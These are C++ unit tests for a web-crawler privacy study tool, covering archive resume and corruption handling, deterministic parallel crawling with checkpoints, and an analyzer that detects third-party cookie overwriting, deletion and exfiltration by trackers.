  // The eighth block's bytes, for building torn/flipped tails.
  const std::string next_block =
      encode_site_block(make_log(kCheckpointSites));

  struct Variant {
    const char* name;
    std::string tail;
  };
  std::vector<Variant> variants;
  variants.push_back({"clean_cut", ""});
  variants.push_back(
      {"torn_block", next_block.substr(0, next_block.size() / 2)});
  std::string flipped = next_block;
  flipped[flipped.size() / 3] ^= 0x10;
  variants.push_back({"bit_flipped_block", flipped});
  variants.push_back({"garbage", std::string(37, '\xEE')});

  for (const auto& variant : variants) {
    const auto path = temp_path("cg_chaos_resume.cgar");
    {
      std::ofstream out(path, std::ios::binary | std::ios::trunc);
      out << prefix << variant.tail;
      ASSERT_TRUE(out.good()) << variant.name;
    }

    Error error;
    auto writer = Writer::resume(path.string(), WriterOptions{},
                                 kCheckpointSites, &error);
    ASSERT_NE(writer, nullptr) << variant.name << ": " << error.to_string();
    EXPECT_EQ(writer->sites_written(), kCheckpointSites);
    EXPECT_EQ(writer->bytes_written(), prefix_bytes);
    for (int rank = kCheckpointSites; rank < kSites; ++rank) {
      ASSERT_TRUE(writer->add(make_log(rank))) << variant.name;
    }
    ASSERT_TRUE(writer->finish(&error))
        << variant.name << ": " << error.to_string();
    writer.reset();

    std::ifstream in(path, std::ios::binary);
    const std::string resumed((std::istreambuf_iterator<char>(in)),
                              std::istreambuf_iterator<char>());
    EXPECT_EQ(resumed, reference) << variant.name;
    std::filesystem::remove(path);
  }
}

TEST(ResumeChaosTest, DamageInsideThePrefixIsNotRepairable) {
  const std::string reference = reference_pack(6, 3);
  const auto path = temp_path("cg_chaos_prefix_damage.cgar");
  std::string damaged = reference;
  damaged[kHeaderSize + 10] ^= 0x04;  // inside the first site block
  {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out << damaged;
    ASSERT_TRUE(out.good());
  }

  Error error;
  auto writer = Writer::resume(path.string(), WriterOptions{}, 3, &error);
  EXPECT_EQ(writer, nullptr);
  EXPECT_TRUE(error.code == fault::ArchiveFault::kChecksumMismatch ||
              error.code == fault::ArchiveFault::kCorruptBlock)
      << error.to_string();
  std::filesystem::remove(path);
}

TEST(ResumeChaosTest, PrefixShorterThanTheCheckpointIsTruncatedClass) {
  const std::string reference = reference_pack(4, 0);
  const auto path = temp_path("cg_chaos_short_prefix.cgar");
  {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out << reference.substr(0, kHeaderSize + 4);
    ASSERT_TRUE(out.good());
  }

  Error error;
  auto prefix = Writer::walk_prefix(path.string(), 4, &error);
  EXPECT_FALSE(prefix.has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kTruncated);
  std::filesystem::remove(path);
}

// ---- atomic output files -------------------------------------------------

TEST(AtomicFileTest, WritesReplacesAndLeavesNoTemporary) {
  const auto path = temp_path("cg_chaos_atomic.json");
  const std::string tmp = path.string() + std::string(kAtomicTmpSuffix);
  std::filesystem::remove(path);
  std::filesystem::remove(tmp);

  Error error;
  ASSERT_TRUE(write_file_atomic(path.string(), "{\"v\":1}", &error))
      << error.to_string();
  EXPECT_FALSE(std::filesystem::exists(tmp));
  ASSERT_TRUE(write_file_atomic(path.string(), "{\"v\":2}", &error))
      << error.to_string();
  EXPECT_FALSE(std::filesystem::exists(tmp));

  std::ifstream in(path, std::ios::binary);
  const std::string contents((std::istreambuf_iterator<char>(in)),
                             std::istreambuf_iterator<char>());
  EXPECT_EQ(contents, "{\"v\":2}");
  std::filesystem::remove(path);
}

TEST(AtomicFileTest, UnwritableDestinationFailsWithoutTouchingTheTarget) {
  const std::string path = "/nonexistent-dir/cg_chaos_atomic.json";
  Error error;
  EXPECT_FALSE(write_file_atomic(path, "contents", &error));
  EXPECT_EQ(error.code, fault::ArchiveFault::kIoError);
}

// ---- crawler quarantine --------------------------------------------------

TEST(CrawlerQuarantineTest, PermanentArchiveFailureQuarantinesNotAborts) {
  corpus::CorpusParams corpus_params;
  corpus_params.site_count = 5;
  const corpus::Corpus corpus(corpus_params);
  crawler::Crawler crawler(corpus);

  // Every write after the header fails permanently: every site's block
  // append exhausts the retry budget and the site is quarantined.
  auto faulting = std::make_unique<FaultingSink>(
      std::make_unique<BufferSink>(),
      window_plan(fault::IoFault::kNoSpace, 1, ~std::uint64_t{0}));

  obs::MetricsRegistry metrics;
  WriterOptions writer_options;
  writer_options.metrics = &metrics;
  Writer writer(std::move(faulting), writer_options);

  crawler::CrawlOptions options;
  options.fault_plan.reset();  // isolate storage failure from visit faults
  options.archive = &writer;
  options.metrics = &metrics;
  int sink_calls = 0;
  const auto health = crawler.crawl(
      corpus.size(), options,
      [&sink_calls](instrument::VisitLog&&) { ++sink_calls; });

  EXPECT_EQ(sink_calls, corpus.size());  // the crawl never aborted
  EXPECT_EQ(health.sites_retained, 0);
  EXPECT_EQ(health.sites_excluded, corpus.size());
  EXPECT_EQ(health.exclusions[static_cast<std::size_t>(
                fault::FailureClass::kStorageFailure)],
            corpus.size());
  EXPECT_EQ(metrics.counter("crawl.sites_quarantined"), corpus.size());
  EXPECT_TRUE(health.retained_ranks.empty());
}

}  // namespace
}  // namespace cg::store
