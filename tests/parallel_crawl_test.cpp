// End-to-end determinism of the sharded crawl: an N-thread crawl must be
// byte-identical to the 1-thread crawl — analysis summary, crawl health,
// and sink order — and checkpoints taken under sharding must resume at a
// different thread count without losing or double-counting a site.
#include <gtest/gtest.h>

#include <map>
#include <memory>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include "analysis/analyzer.h"
#include "cookieguard/cookieguard.h"
#include "crawler/crawler.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "report/json.h"
#include "report/report.h"

namespace cg {
namespace {

corpus::CorpusParams small_params(int n) {
  corpus::CorpusParams params;
  params.site_count = n;
  return params;
}

struct CrawlResult {
  crawler::CrawlHealth health;
  std::string summary;
  std::vector<int> sink_ranks;
};

CrawlResult crawl_with_threads(const corpus::Corpus& corpus, int threads) {
  crawler::Crawler crawler(corpus);
  analysis::Analyzer analyzer(corpus.entities());
  crawler::CrawlOptions options;
  options.threads = threads;
  CrawlResult out;
  out.health =
      crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
        out.sink_ranks.push_back(log.rank);
        analyzer.ingest(log);
      });
  out.summary = report::summary_to_json(analyzer, 20).dump(2);
  return out;
}

TEST(ParallelCrawlTest, EightThreadSummaryIsByteIdenticalToOneThread) {
  corpus::Corpus corpus(small_params(500));
  const CrawlResult one = crawl_with_threads(corpus, 1);
  for (const int threads : {2, 4, 8}) {
    const CrawlResult many = crawl_with_threads(corpus, threads);
    EXPECT_EQ(many.summary, one.summary) << threads << " threads";
    EXPECT_EQ(many.health.to_json().dump(), one.health.to_json().dump())
        << threads << " threads";
    EXPECT_EQ(many.sink_ranks, one.sink_ranks) << threads << " threads";
  }
}

TEST(ParallelCrawlTest, PerWorkerGuardsMatchSequentialGuard) {
  // A stateful extension crawls threaded through the per-worker factory;
  // the observable analysis output must match the sequential single-guard
  // crawl because guard behaviour is per-visit deterministic.
  corpus::Corpus corpus(small_params(200));

  const auto crawl_guarded = [&](int threads) {
    crawler::Crawler crawler(corpus);
    analysis::Analyzer analyzer(corpus.entities());
    crawler::CrawlOptions options;
    options.threads = threads;
    std::vector<std::unique_ptr<cookieguard::CookieGuard>> guards;
    const int workers = threads < 1 ? 1 : threads;
    for (int w = 0; w < workers; ++w) {
      guards.push_back(std::make_unique<cookieguard::CookieGuard>());
    }
    options.extension_factory =
        [&guards](int worker) -> std::vector<browser::Extension*> {
      return {guards[static_cast<size_t>(worker)].get()};
    };
    crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
      analyzer.ingest(log);
    });
    cookieguard::CookieGuard::Stats stats;
    for (const auto& guard : guards) stats.merge(guard->stats());
    return std::pair(report::summary_to_json(analyzer, 20).dump(2), stats);
  };

  const auto [summary1, stats1] = crawl_guarded(1);
  const auto [summary4, stats4] = crawl_guarded(4);
  EXPECT_EQ(summary4, summary1);
  EXPECT_EQ(stats4.cookies_hidden, stats1.cookies_hidden);
  EXPECT_EQ(stats4.writes_blocked, stats1.writes_blocked);
}

TEST(ParallelCrawlTest, SharedExtensionWithoutFactoryFallsBackToSequential) {
  // extra_extensions without a factory cannot be parallelised safely; the
  // crawl silently degrades to one thread instead of racing the extension.
  corpus::Corpus corpus(small_params(60));
  cookieguard::CookieGuard guard;

  crawler::Crawler crawler(corpus);
  analysis::Analyzer threaded(corpus.entities());
  crawler::CrawlOptions options;
  options.threads = 8;
  options.extra_extensions.push_back(&guard);
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    threaded.ingest(log);
  });

  cookieguard::CookieGuard fresh;
  analysis::Analyzer sequential(corpus.entities());
  crawler::CrawlOptions seq_options;
  seq_options.extra_extensions.push_back(&fresh);
  crawler.crawl(corpus.size(), seq_options, [&](instrument::VisitLog&& log) {
    sequential.ingest(log);
  });

  EXPECT_EQ(report::summary_to_json(threaded, 20).dump(),
            report::summary_to_json(sequential, 20).dump());
}

TEST(ParallelCrawlTest, CheckpointUnderShardingResumesAtDifferentThreadCount) {
  // Kill a 4-thread crawl mid-flight (the checkpoint callback throws once
  // the crawl passes site 150), resume the persisted checkpoint at 2
  // threads, and require the stitched run to match an uninterrupted one.
  corpus::Corpus corpus(small_params(300));
  crawler::Crawler crawler(corpus);

  analysis::Analyzer uninterrupted(corpus.entities());
  crawler::CrawlOptions plain;
  const auto full = crawler.crawl(corpus.size(), plain,
                                  [&](instrument::VisitLog&& log) {
                                    uninterrupted.ingest(log);
                                  });

  struct Killed {};
  analysis::Analyzer stitched(corpus.entities());
  std::string persisted;
  crawler::CrawlOptions interrupted;
  interrupted.threads = 4;
  interrupted.checkpoint_interval = 50;
  interrupted.on_checkpoint = [&](const crawler::CrawlCheckpoint& checkpoint) {
    persisted = checkpoint.to_json_string();
    if (checkpoint.next_index >= 150) throw Killed{};
  };
  EXPECT_THROW(crawler.crawl(corpus.size(), interrupted,
                             [&](instrument::VisitLog&& log) {
                               stitched.ingest(log);
                             }),
               Killed);

  const auto checkpoint = crawler::CrawlCheckpoint::from_json_string(persisted);
  ASSERT_TRUE(checkpoint.has_value());
  EXPECT_EQ(checkpoint->next_index, 150);
  EXPECT_EQ(checkpoint->threads, 4);  // diagnostic only; resume ignores it
  // The merge is an in-order fold, so the sink saw exactly the checkpoint
  // prefix before the abort — the analyzer holds sites [0, 150) and the
  // resumed crawl must deliver exactly [150, 300).
  crawler::CrawlOptions resume_options;
  resume_options.threads = 2;
  const auto resumed = crawler.resume(*checkpoint, resume_options,
                                      [&](instrument::VisitLog&& log) {
                                        stitched.ingest(log);
                                      });

  EXPECT_EQ(resumed.to_json().dump(), full.to_json().dump());
  EXPECT_EQ(resumed.retained_ranks, full.retained_ranks);
  EXPECT_EQ(report::summary_to_json(stitched, 20).dump(2),
            report::summary_to_json(uninterrupted, 20).dump(2));
}

TEST(ParallelCrawlTest, CheckpointCarriesShardDiagnostics) {
  corpus::Corpus corpus(small_params(120));
  crawler::Crawler crawler(corpus);
  crawler::CrawlOptions options;
  options.threads = 4;
  options.checkpoint_interval = 40;
  std::vector<crawler::CrawlCheckpoint> checkpoints;
  options.on_checkpoint = [&](const crawler::CrawlCheckpoint& checkpoint) {
    checkpoints.push_back(checkpoint);
  };
  crawler.crawl(corpus.size(), options, [](instrument::VisitLog&&) {});
  ASSERT_FALSE(checkpoints.empty());
  for (const auto& checkpoint : checkpoints) {
    EXPECT_EQ(checkpoint.threads, 4);
    ASSERT_EQ(checkpoint.shard_completed.size(), 4u);
    // The snapshot is advisory (workers race ahead of the merge cursor),
    // but it can never report more sites than were attempted in total.
    int total = 0;
    for (const int n : checkpoint.shard_completed) total += n;
    EXPECT_GE(total, checkpoint.next_index);
    EXPECT_LE(total, 120);
    // And it round-trips through JSON.
    const auto parsed = crawler::CrawlCheckpoint::from_json_string(
        checkpoint.to_json_string());
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(parsed->threads, checkpoint.threads);
    EXPECT_EQ(parsed->shard_completed, checkpoint.shard_completed);
  }
}

TEST(ParallelCrawlTest, CrawlHealthMergeSumsEveryCounter) {
  crawler::CrawlHealth a;
  a.sites_attempted = 10;
  a.sites_retained = 7;
  a.sites_excluded = 3;
  a.sites_degraded = 2;
  a.sites_recovered = 1;
  a.total_attempts = 15;
  a.total_retries = 5;
  a.exclusions[static_cast<int>(fault::FailureClass::kDnsFailure)] = 2;
  a.retained_ranks = {1, 2, 5};

  crawler::CrawlHealth b;
  b.sites_attempted = 4;
  b.sites_retained = 4;
  b.total_attempts = 4;
  b.attempt_failures[static_cast<int>(fault::FailureClass::kConnectTimeout)] =
      1;
  b.retained_ranks = {11, 12};

  a.merge(b);
  EXPECT_EQ(a.sites_attempted, 14);
  EXPECT_EQ(a.sites_retained, 11);
  EXPECT_EQ(a.sites_excluded, 3);
  EXPECT_EQ(a.sites_degraded, 2);
  EXPECT_EQ(a.sites_recovered, 1);
  EXPECT_EQ(a.total_attempts, 19);
  EXPECT_EQ(a.total_retries, 5);
  EXPECT_EQ(a.exclusions[static_cast<int>(fault::FailureClass::kDnsFailure)],
            2);
  EXPECT_EQ(a.attempt_failures[static_cast<int>(
                fault::FailureClass::kConnectTimeout)],
            1);
  EXPECT_EQ(a.retained_ranks, (std::vector<int>{1, 2, 5, 11, 12}));
}

TEST(ParallelCrawlTest, AnalyzerShardMergeMatchesSequentialIngest) {
  // Ingesting shards into separate analyzers and merging must reproduce
  // the single-analyzer run — the property the parallel reduction relies
  // on if callers ever shard the analysis itself.
  corpus::Corpus corpus(small_params(160));
  crawler::Crawler crawler(corpus);
  crawler::CrawlOptions options;

  std::vector<instrument::VisitLog> logs;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    logs.push_back(std::move(log));
  });

  analysis::Analyzer sequential(corpus.entities());
  for (const auto& log : logs) sequential.ingest(log);

  analysis::Analyzer front(corpus.entities());
  analysis::Analyzer back(corpus.entities());
  for (std::size_t i = 0; i < logs.size(); ++i) {
    (i < logs.size() / 2 ? front : back).ingest(logs[i]);
  }
  front.merge(std::move(back));

  EXPECT_EQ(report::summary_to_json(front, 20).dump(2),
            report::summary_to_json(sequential, 20).dump(2));
  EXPECT_EQ(front.totals().unique_setter_scripts,
            sequential.totals().unique_setter_scripts);
}

struct TracedCrawl {
  std::string trace_json;
  std::string metrics_json;
};

TracedCrawl traced_crawl_with_threads(const corpus::Corpus& corpus,
                                      int threads) {
  crawler::Crawler crawler(corpus);
  analysis::Analyzer analyzer(corpus.entities());
  obs::TraceRecorder recorder({obs::Detail::kFull, false});
  obs::MetricsRegistry metrics;
  obs::MetricsRegistry scheduler;  // diagnostics: excluded from identity
  crawler::CrawlOptions options;
  options.threads = threads;
  options.trace = &recorder;
  options.metrics = &metrics;
  options.scheduler_metrics = &scheduler;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    analyzer.ingest(log);
  });
  return {recorder.to_chrome_json(), metrics.to_json().dump(2)};
}

TEST(ParallelCrawlTest, TracedCrawlIsByteIdenticalAcrossThreadCounts) {
  // The observability extension of the determinism contract: the full-detail
  // trace and the site-merged metrics registry are byte-identical at any
  // thread count. (Scheduler diagnostics legitimately differ and live in a
  // separate registry precisely so this holds.)
  corpus::Corpus corpus(small_params(200));
  const TracedCrawl one = traced_crawl_with_threads(corpus, 1);
  EXPECT_FALSE(one.trace_json.empty());
  ASSERT_TRUE(report::Json::parse(one.trace_json).has_value());
  for (const int threads : {2, 4, 8}) {
    const TracedCrawl many = traced_crawl_with_threads(corpus, threads);
    EXPECT_EQ(many.trace_json, one.trace_json) << threads << " threads";
    EXPECT_EQ(many.metrics_json, one.metrics_json) << threads << " threads";
  }
}

TEST(ParallelCrawlTest, TracedKillAndResumeProducesWellFormedTraces) {
  // A crawl killed mid-flight must still leave a parseable trace document
  // (the streaming recorder closes the JSON on destruction), and the
  // resumed crawl's trace must be well-formed with per-track timestamps
  // non-decreasing — the invariant `cgsim trace-check` enforces.
  corpus::Corpus corpus(small_params(200));
  crawler::Crawler crawler(corpus);

  struct Killed {};
  std::string persisted;
  std::ostringstream first_stream;
  {
    obs::TraceRecorder recorder({obs::Detail::kCrawl, false}, &first_stream);
    crawler::CrawlOptions options;
    options.threads = 4;
    options.trace = &recorder;
    options.checkpoint_interval = 50;
    options.on_checkpoint = [&](const crawler::CrawlCheckpoint& checkpoint) {
      persisted = checkpoint.to_json_string();
      if (checkpoint.next_index >= 100) throw Killed{};
    };
    EXPECT_THROW(
        crawler.crawl(corpus.size(), options, [](instrument::VisitLog&&) {}),
        Killed);
  }  // recorder destruction closes the streamed document

  const auto verify_trace = [](const std::string& text) {
    const auto parsed = report::Json::parse(text);
    ASSERT_TRUE(parsed.has_value());
    const auto* events = parsed->find("traceEvents");
    ASSERT_NE(events, nullptr);
    ASSERT_TRUE(events->is_array());
    EXPECT_GT(events->size(), 0u);
    std::map<std::int64_t, std::int64_t> last_ts_by_track;
    for (std::size_t i = 0; i < events->size(); ++i) {
      const auto& event = events->at(i);
      ASSERT_NE(event.find("ph"), nullptr);
      ASSERT_NE(event.find("ts"), nullptr);
      const std::int64_t track = event.find("tid")->as_int();
      const std::int64_t ts = event.find("ts")->as_int();
      const auto it = last_ts_by_track.find(track);
      if (it != last_ts_by_track.end()) {
        EXPECT_GE(ts, it->second);
      }
      last_ts_by_track[track] = ts;
    }
  };
  verify_trace(first_stream.str());

  const auto checkpoint = crawler::CrawlCheckpoint::from_json_string(persisted);
  ASSERT_TRUE(checkpoint.has_value());
  std::ostringstream resume_stream;
  {
    obs::TraceRecorder recorder({obs::Detail::kCrawl, false}, &resume_stream);
    crawler::CrawlOptions options;
    options.threads = 2;
    options.trace = &recorder;
    crawler.resume(*checkpoint, options, [](instrument::VisitLog&&) {});
  }
  verify_trace(resume_stream.str());
}

}  // namespace
}  // namespace cg
