// Tests for the analysis framework: ownership timelines, cross-domain
// action classification, encoded exfiltration matching, aggregation.
#include <gtest/gtest.h>

#include "analysis/analyzer.h"
#include "crypto/base64.h"
#include "crypto/md5.h"
#include "crypto/sha1.h"
#include "entities/entity_map.h"

namespace cg::analysis {
namespace {

using cookies::CookieChange;
using cookies::CookieSource;
using instrument::VisitLog;

VisitLog base_log() {
  VisitLog log;
  log.site_host = "www.example.com";
  log.site = "example.com";
  log.has_cookie_logs = true;
  log.has_request_logs = true;
  log.pages_visited = 1;
  return log;
}

instrument::ScriptCookieSetRecord set_record(
    const std::string& name, const std::string& value,
    const std::string& domain, TimeMillis t,
    CookieChange::Type type = CookieChange::Type::kCreated,
    CookieSource api = CookieSource::kDocumentCookie) {
  instrument::ScriptCookieSetRecord r;
  r.cookie_name = name;
  r.value = value;
  r.setter_domain = domain;
  r.setter_url = domain.empty() ? "" : "https://cdn." + domain + "/s.js";
  r.true_domain = domain;
  r.api = api;
  r.change_type = type;
  r.time = t;
  return r;
}

instrument::RequestRecord request(const std::string& url,
                                  const std::string& initiator_domain,
                                  TimeMillis t) {
  instrument::RequestRecord r;
  r.url = url;
  const auto parsed = net::Url::must_parse(url);
  r.host = parsed.host();
  r.dest_domain = parsed.site();
  r.initiator_domain = initiator_domain;
  r.initiator_url = "https://cdn." + initiator_domain + "/s.js";
  r.destination = net::RequestDestination::kXhr;
  r.time = t;
  return r;
}

class AnalyzerTest : public ::testing::Test {
 protected:
  Analyzer analyzer_{entities::EntityMap::builtin()};
};

TEST_F(AnalyzerTest, IncompleteVisitsExcludedFromActionAnalysis) {
  auto log = base_log();
  log.has_request_logs = false;
  log.script_sets.push_back(
      set_record("_ga", "GA1.1.123456789.1746", "googletagmanager.com", 1));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_crawled, 1);
  EXPECT_EQ(analyzer_.totals().sites_complete, 0);
  EXPECT_TRUE(analyzer_.pairs().empty());
}

TEST_F(AnalyzerTest, FirstSetterOwnsThePair) {
  auto log = base_log();
  log.script_sets.push_back(
      set_record("_ga", "GA1.1.111111111.1746", "googletagmanager.com", 1));
  log.script_sets.push_back(set_record("_ga", "GA1.2.222222222.1746",
                                       "google-analytics.com", 2,
                                       CookieChange::Type::kOverwritten));
  analyzer_.ingest(log);
  const CookiePair pair{"_ga", "googletagmanager.com"};
  ASSERT_TRUE(analyzer_.pairs().count(pair));
  const auto& stats = analyzer_.pairs().at(pair);
  // google-analytics.com ≠ googletagmanager.com: cross-domain overwrite,
  // even though both are Google (the paper compares domains, not entities).
  EXPECT_EQ(stats.overwriter_entities.count("Google"), 1u);
  EXPECT_EQ(analyzer_.totals().sites_doc_overwrite, 1);
}

TEST_F(AnalyzerTest, SameDomainOverwriteIsAuthorized) {
  auto log = base_log();
  log.script_sets.push_back(set_record("_t", "val1val1val1", "tracker.com", 1));
  log.script_sets.push_back(set_record("_t", "val2val2val2", "tracker.com", 2,
                                       CookieChange::Type::kOverwritten));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_doc_overwrite, 0);
  EXPECT_EQ(analyzer_.overwritten_pair_count(CookieSource::kDocumentCookie),
            0);
}

TEST_F(AnalyzerTest, CrossDomainDeletionTracked) {
  auto log = base_log();
  log.script_sets.push_back(
      set_record("_fbp", "fb.1.1746.868308499845957651", "facebook.net", 1));
  log.script_sets.push_back(set_record("_fbp", "", "cdn-cookieyes.com", 2,
                                       CookieChange::Type::kDeleted));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_doc_delete, 1);
  const auto top = analyzer_.top_deleted(5);
  ASSERT_EQ(top.size(), 1u);
  EXPECT_EQ(top[0].pair.name, "_fbp");
  EXPECT_EQ(top[0].stats->deleter_entities.count("CookieYes"), 1u);
}

TEST_F(AnalyzerTest, RecreationAfterDeletionStartsNewPair) {
  auto log = base_log();
  log.script_sets.push_back(set_record("k", "aaaaaaaaaaaa", "a.com", 1));
  log.script_sets.push_back(
      set_record("k", "", "b.com", 2, CookieChange::Type::kDeleted));
  log.script_sets.push_back(set_record("k", "bbbbbbbbbbbb", "b.com", 3));
  analyzer_.ingest(log);
  EXPECT_TRUE(analyzer_.pairs().count({"k", "a.com"}));
  EXPECT_TRUE(analyzer_.pairs().count({"k", "b.com"}));
}

TEST_F(AnalyzerTest, ExfiltrationDetectedRaw) {
  auto log = base_log();
  log.script_sets.push_back(
      set_record("_ga", "GA1.1.444332364.1746838827", "googletagmanager.com",
                 1));
  log.requests.push_back(request(
      "https://bat.bing.com/action?ga=444332364&t=9", "bing.com", 5));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_doc_exfil, 1);
  const auto& stats =
      analyzer_.pairs().at({"_ga", "googletagmanager.com"});
  EXPECT_EQ(stats.exfiltrator_entities.count("Microsoft"), 1u);
  EXPECT_EQ(stats.destination_entities.count("Microsoft"), 1u);
}

TEST_F(AnalyzerTest, ExfiltrationDetectedBase64Md5Sha1) {
  const std::string id = "868308499845957651";
  for (const std::string& encoded :
       {crypto::base64_encode(id), crypto::Md5::hex(id),
        crypto::Sha1::hex(id)}) {
    Analyzer analyzer(entities::EntityMap::builtin());
    auto log = base_log();
    log.script_sets.push_back(
        set_record("_fbp", "fb.1.174674." + id, "facebook.net", 1));
    log.requests.push_back(request(
        "https://sslwidget.criteo.com/event?fbp=" + encoded, "osano.com", 5));
    analyzer.ingest(log);
    EXPECT_EQ(analyzer.totals().sites_doc_exfil, 1) << encoded;
    const auto& stats = analyzer.pairs().at({"_fbp", "facebook.net"});
    EXPECT_EQ(stats.exfiltrator_entities.count("Osano"), 1u);
    EXPECT_EQ(stats.destination_entities.count("Criteo"), 1u);
  }
}

TEST_F(AnalyzerTest, OwnerExfiltrationIsAuthorized) {
  auto log = base_log();
  log.script_sets.push_back(
      set_record("_ga", "GA1.1.444332364.1746838827", "google-analytics.com",
                 1));
  log.requests.push_back(
      request("https://www.google-analytics.com/collect?cid=444332364",
              "google-analytics.com", 5));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_doc_exfil, 0);
}

TEST_F(AnalyzerTest, AmbiguousSegmentsNeverMatch) {
  // Two different cookies share a timestamp segment: matching it would be a
  // false positive, so the analyzer drops it.
  auto log = base_log();
  log.script_sets.push_back(
      set_record("a", "xx.1746838827", "a-owner.com", 1));
  log.script_sets.push_back(
      set_record("b", "yy.1746838827", "b-owner.com", 2));
  log.requests.push_back(
      request("https://collector.com/c?t=1746838827", "reader.com", 5));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_doc_exfil, 0);
}

TEST_F(AnalyzerTest, CandidateMatchingIsInsertionOrderInvariant) {
  // Regression for the cglint D3 finding at analyzer.cpp:206: the candidate
  // identifier index must not leak container iteration order into results.
  // Two cookies set at the SAME virtual time are ingested in both vector
  // orders (stable_sort preserves them), so the candidate index is populated
  // in a different order each run; every observable output must agree —
  // including the ambiguity verdict for the segment their values share.
  const auto a = set_record("a_id", "shared.4443323641746", "a-owner.com", 1);
  const auto b = set_record("b_id", "shared.8683084998459", "b-owner.com", 1);
  const auto exfil_a = request(
      "https://collector.example/p?x=4443323641746", "reader.com", 5);
  const auto exfil_shared =
      request("https://collector.example/p?s=shared", "reader.com", 6);

  Analyzer first(entities::EntityMap::builtin());
  Analyzer second(entities::EntityMap::builtin());
  {
    auto log = base_log();
    log.script_sets = {a, b};
    log.requests = {exfil_a, exfil_shared};
    first.ingest(log);
  }
  {
    auto log = base_log();
    log.script_sets = {b, a};
    log.requests = {exfil_a, exfil_shared};
    second.ingest(log);
  }

  EXPECT_EQ(first.totals().sites_doc_exfil, second.totals().sites_doc_exfil);
  EXPECT_EQ(first.totals().script_set_events,
            second.totals().script_set_events);
  ASSERT_EQ(first.pairs().size(), second.pairs().size());
  auto it1 = first.pairs().begin();
  auto it2 = second.pairs().begin();
  for (; it1 != first.pairs().end(); ++it1, ++it2) {
    EXPECT_EQ(it1->first, it2->first);
    EXPECT_EQ(it1->second.sites_set, it2->second.sites_set);
    EXPECT_EQ(it1->second.exfiltrator_entities,
              it2->second.exfiltrator_entities);
    EXPECT_EQ(it1->second.destination_entities,
              it2->second.destination_entities);
  }
  // The distinct segment matched; the shared one was ambiguous in BOTH runs
  // (regardless of which cookie claimed it first).
  EXPECT_TRUE(first.pairs().at({"a_id", "a-owner.com"}).exfiltrated());
  EXPECT_FALSE(first.pairs().at({"b_id", "b-owner.com"}).exfiltrated());
  EXPECT_FALSE(second.pairs().at({"b_id", "b-owner.com"}).exfiltrated());
}

TEST_F(AnalyzerTest, ShortSegmentsIgnored) {
  auto log = base_log();
  log.script_sets.push_back(set_record("theme", "dark", "a.com", 1));
  log.requests.push_back(
      request("https://c.com/c?theme=dark", "reader.com", 5));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_doc_exfil, 0);
}

TEST_F(AnalyzerTest, CookieStoreActionsTrackedSeparately) {
  auto log = base_log();
  log.script_sets.push_back(
      set_record("keep_alive", "aaaabbbbcccc", "shopifycloud.com", 1,
                 CookieChange::Type::kCreated, CookieSource::kCookieStore));
  log.requests.push_back(request(
      "https://bat.bing.com/action?ka=aaaabbbbcccc", "bing.com", 5));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_store_exfil, 1);
  EXPECT_EQ(analyzer_.totals().sites_doc_exfil, 0);
  EXPECT_EQ(analyzer_.pair_count(CookieSource::kCookieStore), 1);
  EXPECT_EQ(analyzer_.exfiltrated_pair_count(CookieSource::kCookieStore), 1);
}

TEST_F(AnalyzerTest, HttpFirstPartySetEstablishesOwnership) {
  auto log = base_log();
  instrument::HttpCookieSetRecord http;
  http.cookie_name = "srv_uid";
  http.value = "deadbeefcafe1234";
  http.response_host = "www.example.com";
  http.setter_domain = "example.com";
  http.first_party = true;
  http.time = 1;
  log.http_sets.push_back(http);
  log.requests.push_back(request(
      "https://sync.ads.net/s?u=deadbeefcafe1234", "adsvendor.net", 5));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_doc_exfil, 1);
  EXPECT_TRUE(analyzer_.pairs().count({"srv_uid", "example.com"}));
}

TEST_F(AnalyzerTest, HttpOnlyHeaderCookiesOutOfScope) {
  auto log = base_log();
  instrument::HttpCookieSetRecord http;
  http.cookie_name = "sid";
  http.value = "secretsecret1234";
  http.setter_domain = "example.com";
  http.first_party = true;
  http.http_only = true;
  http.time = 1;
  log.http_sets.push_back(http);
  analyzer_.ingest(log);
  EXPECT_TRUE(analyzer_.pairs().empty());
}

TEST_F(AnalyzerTest, InlineSetterFoldedIntoFirstParty) {
  auto log = base_log();
  log.script_sets.push_back(set_record("x", "0123456789abcdef", "", 1));
  analyzer_.ingest(log);
  EXPECT_TRUE(analyzer_.pairs().count({"x", "example.com"}));
  EXPECT_EQ(analyzer_.totals().attribution_unknown, 1);
}

TEST_F(AnalyzerTest, OverwriteAttributeDiffsAggregated) {
  auto log = base_log();
  log.script_sets.push_back(set_record("k", "aaaaaaaaaaaa", "a.com", 1));
  auto over = set_record("k", "bbbbbbbbbbbb", "b.com", 2,
                         CookieChange::Type::kOverwritten);
  over.value_changed = true;
  over.expires_changed = true;
  log.script_sets.push_back(over);
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().cross_overwrites, 1);
  EXPECT_EQ(analyzer_.totals().overwrite_value_changed, 1);
  EXPECT_EQ(analyzer_.totals().overwrite_expires_changed, 1);
  EXPECT_EQ(analyzer_.totals().overwrite_domain_changed, 0);
}

TEST_F(AnalyzerTest, RankingsSortByEntityCounts) {
  auto log = base_log();
  log.script_sets.push_back(
      set_record("_ga", "GA1.1.444332364.1746838827", "googletagmanager.com",
                 1));
  log.script_sets.push_back(
      set_record("_mk", "id8765432187654321", "marketo.net", 2));
